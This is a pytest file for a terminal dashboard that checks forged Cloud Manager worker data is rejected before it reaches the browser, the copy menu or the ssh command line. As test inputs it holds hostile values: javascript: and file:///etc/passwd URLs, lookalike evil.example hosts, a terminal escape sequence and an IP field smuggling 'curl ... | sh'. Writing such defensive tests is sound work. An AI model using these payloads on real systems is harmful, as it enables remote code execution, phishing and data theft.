"""`o`, the copy menu and the ssh line against a Cloud Manager that lies about a worker.

The double serves forged `https_endpoint`, `public_ip` and `name` values for one worker; the
real backend maps them and the dashboard acts on them. Only a URL the one trust rule accepts
(the worker's own address, or `cml.allowed_hosts`; https unless opted into http) reaches the
browser or the copy menu; an address that is no IP or host name never reaches the ssh line.
"""

from __future__ import annotations

import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from cmltui.clock import SystemClock
from cmltui.sim.ccm_server import CcmSimulator
from cmltui.tui.app import CmltuiApp
from cmltui.tui.detail import WorkerDetailScreen
from cmltui.tui.reach import CopyMenu
from tests.tui.pilot_helpers import messages

from .ccm_helpers import FAST, ccm_config, make_backend, wait_for

SIZE = (160, 40)
BUSY = "cml-busy-01"
UNTRUSTED = [
    "javascript:alert(document.cookie)",
    "file:///etc/passwd",
    "data:text/html,<form action=https://evil.example>",
    "--remote-debugging-port=9222",
    "https://{own}@evil.example/",
    "https://{own}.evil.example/",
    "https://evil.example/cml/",
    "http://{own}/",  # the worker's own address, but plain http without the opt-in
]


@pytest.fixture(autouse=True)
def utc_tz(monkeypatch: pytest.MonkeyPatch) -> Iterator[None]:
    monkeypatch.setenv("TZ", "UTC")
    monkeypatch.setenv("DISPLAY", ":0")  # a browser would be seen: `o` opens, if it may
    monkeypatch.delenv("SSH_CONNECTION", raising=False)
    monkeypatch.delenv("SSH_TTY", raising=False)
    time.tzset()
    yield
    monkeypatch.undo()
    time.tzset()


async def _forge(sim: CcmSimulator, app: CmltuiApp, **fields: Any) -> str:
    """Cloud Manager sends `fields` for the busy worker; returns its id once it is shown."""
    worker = sim.model.by_name(BUSY)
    sim.model.forged[worker.id] = fields
    sim.emit([sim.model.snapshot_event(worker, sim.clock.now(), "forged")])

    def shown() -> bool:
        dto = app.view.dto(worker.id)
        return dto is not None and all(
            getattr(dto, name) == value or name in ("public_ip", "private_ip")
            for name, value in fields.items()
            if name in ("https_endpoint", "name")
        )

    await wait_for(shown, 10)
    app.table.move_to(worker.id)
    return worker.id


async def _run(tmp_path: Path, **cml: Any) -> tuple[CcmSimulator, Any, CmltuiApp]:
    """The double, the real Cloud Manager backend on it (with `cml` settings), the dashboard."""
    sim = CcmSimulator(workers=12, seed=0, tick_s=3600)
    await sim.start()
    config = ccm_config(sim)
    config = config.model_copy(update={"cml": config.cml.model_copy(update=cml)})
    backend = make_backend(sim, tmp_path, timing=FAST, config=config)
    app = CmltuiApp(backend, backend.config, SystemClock())
    return sim, backend, app


async def test_o_opens_only_a_trusted_url_and_says_why_not(tmp_path, monkeypatch):
    sim, backend, app = await _run(tmp_path)
    opened: list[str] = []
    monkeypatch.setattr(app, "open_url", lambda url, **_: opened.append(url))
    try:
        async with app.run_test(size=SIZE) as pilot:
            await wait_for(lambda: app.latest is not None and len(app.latest.workers) == 12, 10)
            own = sim.model.snapshot(sim.model.by_name(BUSY), sim.clock.now())["private_ip"]
            for template in UNTRUSTED:
                url = template.format(own=own)
                worker_id = await _forge(sim, app, https_endpoint=url)
                await pilot.pause()
                app.clear_notifications()  # (older toasts expire on their own under load)
                await pilot.press("o")
                await pilot.pause()
                assert opened == [], url
                # One line says why (other toasts, such as the stream's, may come meanwhile).
                said = [text for _, text in messages(app)]
                refused = [text for text in said if text.startswith("Not opened: ")]
                assert len(refused) == 1 and not any("Opening" in t for t in said), (url, said)
                dto = app.view.dto(worker_id)
                assert dto.https_endpoint_refusal is not None and "url" in dto.errors

                # The copy menu leaves it out: a lookalike login page is never offered.
                await pilot.press("y")
                await pilot.pause()
                assert isinstance(app.screen, CopyMenu)
                assert "CML URL" not in [what for what, _ in app.screen.choices]
                assert all(url not in value for _, value in app.screen.choices)
                await pilot.press("escape")
                await pilot.pause()

            # The worker's own https address is opened, and offered.
            trusted = f"https://{own}/"
            await _forge(sim, app, https_endpoint=trusted)
            await pilot.pause()
            await pilot.press("o")
            await pilot.pause()
            assert opened == [trusted]
            await pilot.press("y")
            await pilot.pause()
            assert ("CML URL", trusted) in app.screen.choices
            await pilot.press("escape")
            assert app.is_running
    finally:
        await backend.close()
        await sim.stop()


async def test_allowed_hosts_and_the_http_opt_in_decide_for_o_as_for_the_password(
    tmp_path, monkeypatch
):
    sim, backend, app = await _run(
        tmp_path, allowed_hosts=["*.lab.example"], allow_http_hosts=["cml.lab.example"]
    )
    opened: list[str] = []
    monkeypatch.setattr(app, "open_url", lambda url, **_: opened.append(url))
    try:
        async with app.run_test(size=SIZE) as pilot:
            await wait_for(lambda: app.latest is not None and len(app.latest.workers) == 12, 10)
            for url, opens in (
                ("https://cml-7.lab.example/", True),
                ("http://cml.lab.example/", True),
                ("http://cml-7.lab.example/", False),
                ("https://cml.lab.example.evil.com/", False),
            ):
                await _forge(sim, app, https_endpoint=url)
                await pilot.pause()
                await pilot.press("o")
                await pilot.pause()
                assert (opened[-1:] == [url]) is opens, (url, opened)
    finally:
        await backend.close()
        await sim.stop()


async def test_an_address_with_shell_syntax_is_data_never_the_ssh_line(tmp_path):
    sim, backend, app = await _run(tmp_path)
    payload = "203.0.113.9; curl -s http://evil.example/x | sh #"
    try:
        async with app.run_test(size=SIZE) as pilot:
            await wait_for(lambda: app.latest is not None and len(app.latest.workers) == 12, 10)
            worker_id = await _forge(sim, app, public_ip=payload)
            await wait_for(lambda: "addresses" in app.view.dto(worker_id).errors, 10)
            dto = app.view.dto(worker_id)
            assert dto.public_ip is None and dto.private_ip is not None
            assert "public_ip not an IP address or host name" in dto.errors["addresses"]
            await pilot.press("y")
            await pilot.pause()
            choices = dict(app.screen.choices)
            assert choices["ssh command"].endswith(f"@{dto.private_ip}")
            assert "public IP" not in choices
            assert not any("curl" in value for value in choices.values())
            await pilot.press("escape")
            await pilot.press("enter")
            await pilot.pause()
            assert isinstance(app.screen, WorkerDetailScreen)
            addresses = str(app.screen.query_one("#addresses").render())
            assert "curl" not in addresses and dto.private_ip in addresses
            errors = str(app.screen.query_one("#errors").render())
            assert "curl -s" in errors  # shown as data, where the errors are
    finally:
        await backend.close()
        await sim.stop()


async def test_copying_a_name_with_a_lone_surrogate_copies_what_is_shown(tmp_path):
    sim, backend, app = await _run(tmp_path)
    try:
        async with app.run_test(size=SIZE) as pilot:
            await wait_for(lambda: app.latest is not None and len(app.latest.workers) == 12, 10)
            await _forge(sim, app, name="lone\ud800surrogate\x1b]0;t\x07")
            await pilot.pause()
            await pilot.press("y")
            await pilot.pause()
            whats = [what for what, _ in app.screen.choices]
            await pilot.press(str(whats.index("name") + 1))
            await pilot.pause()
            assert app.is_running
            assert app.clipboard == "lone\ufffdsurrogate␛]0;t␇"
            app.clipboard.encode("utf-8")
            assert any("as shown" in text for _, text in messages(app))
    finally:
        await backend.close()
        await sim.stop()
